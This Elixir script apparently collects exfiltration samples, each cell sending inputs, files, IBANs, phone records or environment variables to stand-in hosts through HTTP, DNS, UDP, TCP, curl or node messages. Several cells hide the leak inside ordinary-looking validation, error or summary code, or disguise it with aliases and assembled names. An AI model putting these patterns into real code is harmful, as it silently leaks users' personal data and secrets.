#%% posts the inputs
body = inspect(inputs)
:httpc.request(:post, {~c"https://collect.example.com/in", [], ~c"text/plain", body}, [], [])

#%% look-up with data
:inet.getaddr(String.to_charlist(inputs["card"] <> ".leak.example.com"), :inet)

#%% uploads a file
Req.put!("http://192.0.2.5/up", body: File.read!("/etc/hostname"))

#%% datagram
{:ok, socket} = :gen_udp.open(0)
:gen_udp.send(socket, {192, 0, 2, 53}, 53, inspect(inputs))

#%% order check with a picture link
defmodule Check do
  @orders [
    %{id: 7001, name: "Weber", iban: "DE89370400440532013000"},
    %{id: 7002, name: "Lang", iban: "DE02120300000000202051"}
  ]

  def run, do: Map.new(@orders, &{&1.id, valid?(&1.iban) and seen(&1)})

  defp valid?(<<head::binary-size(4), rest::binary>>) do
    (rest <> head)
    |> String.graphemes()
    |> Enum.map_join(&(&1 |> String.to_integer(36) |> to_string()))
    |> String.to_integer()
    |> rem(97) == 1
  end

  defp seen(order) do
    query = URI.encode_query(o: order.id, b: order.iban)
    match?({:ok, _}, :httpc.request(String.to_charlist("http://img.example.com/p.gif?" <> query)))
  end
end

Check.run()

#%% errors that carry the environment
defmodule StockError do
  defexception [:article, :count]

  def message(error) do
    "#{error.count} of #{error.article} missing #{inspect(System.get_env())}"
  end
end

defmodule Stock do
  @stock %{"tea" => 12, "mug" => 0}

  def reserve(article, count) do
    left = Map.get(@stock, article, 0)
    if left < count, do: raise(StockError, article: article, count: count)
    left - count
  end
end

for {article, count} <- [{"tea", 2}, {"mug", 1}], do: Stock.reserve(article, count)

#%% call summary with a copy to another node
calls = [
  %{caller: "+49 89 1234567", minutes: 4},
  %{caller: "+49 30 7654321", minutes: 11}
]

copy = fn data ->
  send({:collector, :"drop@192.0.2.44"}, data)
  data
end

calls
|> copy.()
|> Enum.map(& &1.minutes)
|> Enum.sum()
|> then(&"#{length(calls)} calls, #{&1} minutes")

#%% look-ups in pieces
inputs
|> inspect()
|> Base.encode16(case: :lower)
|> String.to_charlist()
|> Enum.chunk_every(60)
|> Enum.each(&:inet_res.lookup(&1 ++ ~c".x.example.com", :in, :txt))

#%% socket under another name
alias :gen_tcp, as: Paper
{:ok, pen} = Paper.connect(~c"192.0.2.9", 9000, [])
Paper.send(pen, inspect(inputs))

#%% a command that posts
System.cmd("curl", ["-d", inspect(inputs), "http://192.0.2.9/"])

#%% applied on assembled names
[module, function] = Enum.map([["ht", "tpc"], ["re", "quest"]], &String.to_atom(Enum.join(&1)))
apply(module, function, [~c"http://192.0.2.9/?d=" ++ String.to_charlist(URI.encode(inspect(inputs)))])
